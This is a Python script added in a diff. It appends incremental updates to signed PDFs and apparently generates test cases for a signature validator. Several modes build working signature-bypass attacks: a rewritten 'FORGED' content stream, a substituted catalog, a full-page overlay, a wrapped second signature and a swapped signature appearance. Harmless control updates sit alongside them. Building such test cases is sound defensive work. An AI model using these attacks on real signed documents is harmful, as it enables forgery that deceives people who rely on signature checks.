@@ -1,0 +1,261 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-3.0-or-later
+# Builds one incremental-update attack (or one harmless update) on a
+# freshly signed PDF, the way an attacker with a text editor would: the
+# signed file stays byte for byte, one update is appended after it. The
+# structure of the signed file is read with `qpdf --json` (a real reader,
+# not ours); the update is written here, with a classic cross-reference
+# table or a cross-reference stream.
+#   make-attack.py IN OUT KIND XREF
+# KIND: objstm (content stream rewritten, /Type /ObjStm on it), catalog (a
+# new catalog without /Type, same /AcroForm, a new page tree, trailer
+# /Root pointing at it), overlay (an opaque annotation over the whole
+# page), content (content stream rewritten plainly), wrap (a second
+# /ByteRange and /Contents pair: a new signature dictionary with the
+# first one's ranges, the field pointed at it, and the page rewritten),
+# appearance (the signature widget's appearance swapped), note (a small
+# annotation), repeat (a section that only lists an unchanged object
+# again), addfield (a text field added, for the form-filling test), fill
+# (that text field filled in).
+# XREF: table or stream.
+import json
+import re
+import subprocess
+import sys
+import zlib
+
+
+def load(path):
+    out = subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", path],
+                         check=True, capture_output=True).stdout
+    q = json.loads(out)["qpdf"][1]
+    objs = {}
+    for key, value in q.items():
+        m = re.match(r"obj:(\d+) 0 R", key)
+        if m:
+            objs[int(m.group(1))] = value
+    return objs, q["trailer"]["value"]
+
+
+def ref_num(v):
+    m = re.fullmatch(r"(\d+) 0 R", v) if isinstance(v, str) else None
+    return int(m.group(1)) if m else None
+
+
+def pdf(v):
+    """qpdf's JSON value back to PDF syntax."""
+    if isinstance(v, bool):
+        return "true" if v else "false"
+    if v is None:
+        return "null"
+    if isinstance(v, (int, float)):
+        return repr(v)
+    if isinstance(v, list):
+        return "[" + " ".join(pdf(x) for x in v) + "]"
+    if isinstance(v, dict):
+        return "<<" + " ".join(k + " " + pdf(x) for k, x in v.items()) + ">>"
+    if ref_num(v) is not None or v.startswith("/"):
+        return v
+    if v.startswith("b:"):
+        return "<" + v[2:] + ">"
+    if v.startswith("u:"):
+        text = v[2:]
+        if all(ord(c) < 128 for c in text):
+            return "(" + text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ")"
+        return "<FEFF" + text.encode("utf-16-be").hex() + ">"
+    raise ValueError(v)
+
+
+class Update:
+    def __init__(self, path):
+        self.data = open(path, "rb").read()
+        self.objs, self.trailer = load(path)
+        self.size = self.trailer["/Size"]
+        self.prev = int(re.findall(rb"startxref\s+(\d+)", self.data)[-1])
+        self.body = bytearray()
+        self.offsets = {}
+
+    def new_num(self):
+        self.size += 1
+        return self.size - 1
+
+    def value(self, num):
+        return self.objs[num].get("value")
+
+    def write(self, num, text, stream=None):
+        if not self.body and not self.data.endswith(b"\n"):
+            self.body += b"\n"
+        self.offsets[num] = len(self.data) + len(self.body)
+        self.body += b"%d 0 obj\n" % num
+        if stream is None:
+            self.body += text.encode("latin-1") + b"\nendobj\n"
+        else:
+            self.body += text.encode("latin-1") + b"\nstream\n" + stream + b"\nendstream\nendobj\n"
+
+    def write_stream(self, num, entries, data):
+        entries = dict(entries)
+        entries["/Length"] = len(data)
+        self.write(num, pdf(entries), data)
+
+    def finish(self, out, kind, root=None, extra_offsets=None):
+        trailer = {"/Size": self.size, "/Root": root or self.trailer["/Root"], "/Prev": self.prev}
+        for key in ("/Info", "/ID"):
+            if key in self.trailer:
+                trailer[key] = self.trailer[key]
+        offsets = dict(self.offsets)
+        offsets.update(extra_offsets or {})
+        if kind == "table":
+            start = len(self.data) + len(self.body)
+            text = "xref\n"
+            for num in sorted(offsets):
+                text += "%d 1\n%010d 00000 n \n" % (num, offsets[num])
+            text += "trailer\n" + pdf(trailer) + "\nstartxref\n%d\n%%%%EOF\n" % start
+            self.body += text.encode("latin-1")
+        else:
+            xnum = self.size
+            self.size += 1
+            trailer["/Size"] = self.size
+            start = len(self.data) + len(self.body)
+            offsets[xnum] = start
+            rows = b""
+            index = []
+            for num in sorted(offsets):
+                index += [num, 1]
+                rows += bytes([1]) + offsets[num].to_bytes(4, "big") + (0).to_bytes(2, "big")
+            entries = dict(trailer, **{"/Type": "/XRef", "/W": [1, 4, 2], "/Index": index})
+            self.write_stream(xnum, entries, rows)
+            self.body += b"startxref\n%d\n%%%%EOF\n" % start
+        open(out, "wb").write(self.data + bytes(self.body))
+
+
+def first_page(up):
+    node = ref_num(up.value(ref_num(up.trailer["/Root"]))["/Pages"])
+    while "/Kids" in up.value(node):
+        node = ref_num(up.value(node)["/Kids"][0])
+    return node
+
+
+def signature_widget(up):
+    for num, o in sorted(up.objs.items()):
+        v = o.get("value")
+        if isinstance(v, dict) and v.get("/FT") == "/Sig" and "/V" in v and "/Rect" in v:
+            return num
+    raise SystemExit("no signed signature widget")
+
+
+FORGED = b"q 1 0 0 rg 0 0 595 842 re f Q BT /Helv 40 Tf 72 600 Td (FORGED) Tj ET"
+
+
+def forged_content():
+    return zlib.compress(FORGED)
+
+
+def overlay_stream(up, width, height):
+    num = up.new_num()
+    up.write_stream(num, {"/Type": "/XObject", "/Subtype": "/Form", "/BBox": [0, 0, width, height],
+                          "/Filter": "/FlateDecode"},
+                    zlib.compress(b"1 1 1 rg 0 0 %d %d re f 0 0 1 rg 10 10 %d %d re f" % (width, height, width - 20, height // 3)))
+    return num
+
+
+def add_annot(up, page, annot_num):
+    pv = dict(up.value(page))
+    annots = pv.get("/Annots", [])
+    if ref_num(annots) is not None:
+        arr = list(up.value(ref_num(annots)))
+        up.write(ref_num(annots), pdf(arr + ["%d 0 R" % annot_num]))
+    else:
+        pv["/Annots"] = list(annots) + ["%d 0 R" % annot_num]
+        up.write(page, pdf(pv))
+
+
+def main():
+    src, out, kind, xref = sys.argv[1:5]
+    up = Update(src)
+    page = first_page(up)
+    pv = up.value(page)
+    root = None
+    extra = None
+    if kind in ("objstm", "content"):
+        contents = pv["/Contents"]
+        num = ref_num(contents) if ref_num(contents) is not None else ref_num(contents[0])
+        entries = {"/Filter": "/FlateDecode"}
+        if kind == "objstm":
+            entries.update({"/Type": "/ObjStm", "/N": 0, "/First": 0})
+        up.write_stream(num, entries, forged_content())
+    elif kind == "catalog":
+        cat = dict(up.value(ref_num(up.trailer["/Root"])))
+        cat.pop("/Type", None)
+        cnum, pnum, pgnum, snum = up.new_num(), up.new_num(), up.new_num(), up.new_num()
+        up.write_stream(snum, {"/Filter": "/FlateDecode"}, forged_content())
+        newpage = dict(pv)
+        newpage["/Parent"] = "%d 0 R" % pnum
+        newpage["/Contents"] = "%d 0 R" % snum
+        up.write(pgnum, pdf(newpage))
+        up.write(pnum, pdf({"/Type": "/Pages", "/Kids": ["%d 0 R" % pgnum], "/Count": 1}))
+        cat["/Pages"] = "%d 0 R" % pnum
+        up.write(cnum, pdf(cat))
+        root = "%d 0 R" % cnum
+    elif kind in ("overlay", "note"):
+        box = pv.get("/MediaBox", [0, 0, 595, 842])
+        w, h = int(box[2]), int(box[3])
+        rect = [0, 0, w, h] if kind == "overlay" else [20, 20, 120, 60]
+        ap = overlay_stream(up, rect[2] - rect[0], rect[3] - rect[1])
+        anum = up.new_num()
+        up.write(anum, pdf({"/Type": "/Annot", "/Subtype": "/Stamp" if kind == "overlay" else "/Square",
+                            "/Rect": rect, "/F": 4, "/P": "%d 0 R" % page, "/AP": {"/N": "%d 0 R" % ap}}))
+        add_annot(up, page, anum)
+    elif kind == "wrap":
+        widget = signature_widget(up)
+        wv = dict(up.value(widget))
+        sig = dict(up.value(ref_num(wv["/V"])))
+        new_sig = up.new_num()
+        up.write(new_sig, pdf(sig))
+        wv["/V"] = "%d 0 R" % new_sig
+        up.write(widget, pdf(wv))
+        contents = pv["/Contents"]
+        num = ref_num(contents) if ref_num(contents) is not None else ref_num(contents[0])
+        up.write_stream(num, {"/Filter": "/FlateDecode"}, forged_content())
+    elif kind == "appearance":
+        widget = signature_widget(up)
+        wv = dict(up.value(widget))
+        r = wv["/Rect"]
+        ap = overlay_stream(up, int(r[2] - r[0]), int(r[3] - r[1]))
+        wv["/AP"] = {"/N": "%d 0 R" % ap}
+        up.write(widget, pdf(wv))
+    elif kind == "repeat":
+        # The catalog listed again where it already is: nothing changes.
+        cat = ref_num(up.trailer["/Root"])
+        m = list(re.finditer(rb"(?<![0-9])%d 0 obj" % cat, up.data))[-1]
+        extra = {cat: m.start()}
+    elif kind == "addfield":
+        cat_num = ref_num(up.trailer["/Root"])
+        cat = dict(up.value(cat_num))
+        fnum, ap = up.new_num(), up.new_num()
+        up.write_stream(ap, {"/Type": "/XObject", "/Subtype": "/Form", "/BBox": [0, 0, 200, 20]}, b"")
+        up.write(fnum, pdf({"/Type": "/Annot", "/Subtype": "/Widget", "/FT": "/Tx", "/T": "u:issue",
+                            "/Rect": [72, 60, 272, 80], "/F": 4, "/P": "%d 0 R" % page,
+                            "/DA": "u:/Helv 12 Tf 0 g", "/AP": {"/N": "%d 0 R" % ap}}))
+        form = {"/Fields": ["%d 0 R" % fnum],
+                "/DR": {"/Font": {"/Helv": {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}}},
+                "/DA": "u:/Helv 12 Tf 0 g"}
+        cat["/AcroForm"] = form
+        up.write(cat_num, pdf(cat))
+        add_annot(up, page, fnum)
+    elif kind == "fill":
+        field = [n for n, o in up.objs.items() if isinstance(o.get("value"), dict) and o["value"].get("/T") == "u:issue"][0]
+        fv = dict(up.value(field))
+        ap = up.new_num()
+        up.write_stream(ap, {"/Type": "/XObject", "/Subtype": "/Form", "/BBox": [0, 0, 200, 20],
+                             "/Resources": {"/Font": {"/Helv": {"/Type": "/Font", "/Subtype": "/Type1",
+                                                                  "/BaseFont": "/Helvetica"}}}},
+                        b"/Tx BMC BT /Helv 12 Tf 2 5 Td (12/QD-UBND) Tj ET EMC")
+        fv["/V"] = "u:12/QD-UBND"
+        fv["/AP"] = {"/N": "%d 0 R" % ap}
+        up.write(field, pdf(fv))
+    else:
+        raise SystemExit("unknown kind " + kind)
+    up.finish(out, xref, root, extra)
+
+
+main()
